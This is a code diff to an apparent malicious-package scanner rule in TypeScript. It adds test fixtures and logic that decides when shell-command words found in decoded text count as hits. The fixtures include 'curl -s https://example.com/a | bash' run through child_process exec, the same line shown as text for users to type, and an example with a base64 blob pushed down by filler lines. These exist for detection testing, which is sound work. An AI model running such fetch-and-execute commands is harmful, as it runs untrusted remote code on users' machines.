@@ -107,7 +107,11 @@ export const rule: EntryRule = {
       },
       {
         about: 'a script from elsewhere',
-        make: () => fileExample('package/a.js', 'exec("curl -s https://example.com/a | bash")'),
+        make: () =>
+          fileExample(
+            'package/a.js',
+            `${call('require')}"child_process").${call('exec')}"curl -s https://example.com/a | bash")`,
+          ),
       },
       {
         about: 'escapes that are run',
@@ -131,6 +135,10 @@ export const rule: EntryRule = {
             'a.py',
             `icon = b64decode("${'QUFB'.repeat(300)}")\n${'x = 1\n'.repeat(99)}subprocess.run(["ls"])`,
           ),
+      },
+      {
+        about: 'a page that tells people what to type',
+        make: () => fileExample('package/a.js', 'show("curl https://example.com/a | bash")'),
       },
       {
         about: 'an expression that is held against decoded text',
@@ -158,6 +166,9 @@ function findDecoded(bytes: Buffer, path: string): number | null {
   const isPython = /\.pyw?$/i.test(path);
   for (const [word, pattern] of DECODED) {
     if (word === 'exec(' && !isPython) continue;
+    // pages tell people to type such a line
+    const mayStart = isPython || /\.(?:sh|bash|zsh|ps1|bat|cmd)$/i.test(path);
+    if (word.endsWith(' ') && !mayStart && !bytes.includes('child_process')) continue;
     for (const at of placesOf(bytes, word)) {
       // one character before shows whether the word is the end of another
       const start = Math.max(0, at - 1);
